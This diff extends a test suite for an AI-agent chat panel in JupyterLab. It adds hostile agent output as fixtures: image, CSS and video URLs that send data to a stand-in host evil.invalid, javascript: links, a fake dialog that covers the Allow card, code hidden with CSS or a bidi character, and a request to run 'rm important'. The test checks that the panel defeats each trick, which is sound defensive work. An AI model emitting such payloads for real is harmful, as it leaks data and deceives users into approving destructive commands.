@@ -12,6 +12,9 @@ const ATTACK =
 const FETCH =
   '![picture](https://evil.invalid/?d=secret) <img src="//evil.invalid/a" srcset="//evil.invalid/b 2x">' +
   '<video poster="https://evil.invalid/c" src="https://evil.invalid/d"></video>' +
+  '<p style="background:url(https://evil.invalid/e)">p</p><p style="list-style-image:url(//evil.invalid/f)">p</p>' +
+  '<table background="https://evil.invalid/g"><tr><td>t</td></tr></table>' +
+  '![script](javascript:window.attacked=8) <img src="javascript:window.attacked=9">' +
   '<button class="jp-mod-styled" data-commandlinker-command="terminal:create-new">Allow</button>';
 const LINK = 'javascript:window.attacked=5';
 const SVG = btoa(
@@ -178,4 +181,50 @@ test('nothing that an agent says is ever run', async ({ page, request }) => {
   ]) {
     await expect(agent.panel.locator(selector)).toHaveCount(0);
   }
+});
+
+test('nothing is painted over what is asked, and no code hides', async ({
+  page,
+  request
+}) => {
+  const agent = await AgentPage.begin(page, request);
+  const cover =
+    '<div class="jp-Dialog" style="position:absolute;top:100%;left:0;width:100%;height:300px;z-index:9999999;background-color:white">Command: ls</div>';
+  const code =
+    '<pre>print(1)<span style="display:none">\nimport os</span></pre>\n\n' +
+    '<pre>print(2)<details>import os</details></pre>\n\n' +
+    '```python\nprint(3) #\u202e hidden\n```\n\n```python\nprint(4)\n```';
+  await agent.send(
+    JSON.stringify([
+      ['chunk', `${cover}\n\n${code}`],
+      ['request', 'terminal/create', { command: 'rm', args: ['important'] }]
+    ])
+  );
+  const allow = agent.cards.getByRole('button', { name: 'Allow', exact: true });
+  await expect(allow).toBeVisible();
+  await expect(agent.log.locator('[style*="position"]')).toHaveCount(0);
+  // What is seen at the place of the card is the card.
+  const box = (await agent.cards.boundingBox())!;
+  const isCard = await page.evaluate(
+    ([x, y]) =>
+      document.elementFromPoint(x, y)?.closest('.jp-acp-Card') !== null,
+    [box.x + box.width / 2, box.y + 12]
+  );
+  expect(isCard).toBe(true);
+
+  const block = (words: string) =>
+    agent.log.locator('pre', { hasText: words }).locator('..');
+  const run = { name: 'Insert below and run' };
+  // What was hidden is shown, or cannot be run.
+  await expect(block('print(1)').getByText('import os')).toBeVisible();
+  await expect(block('print(2)').getByRole('button', run)).toHaveCount(0);
+  await expect(block('print(3)').getByRole('button', run)).toHaveCount(0);
+  await expect(block('print(3)')).toContainText('cannot be seen');
+  await expect(block('print(4)').getByRole('button', run)).toHaveCount(1);
+  // Colours are harmless.
+  await expect(block('print(4)').locator('span[class]').first()).toBeVisible();
+  await agent.cards
+    .getByRole('button', { name: 'Reject', exact: true })
+    .click();
+  await agent.isIdle();
 });
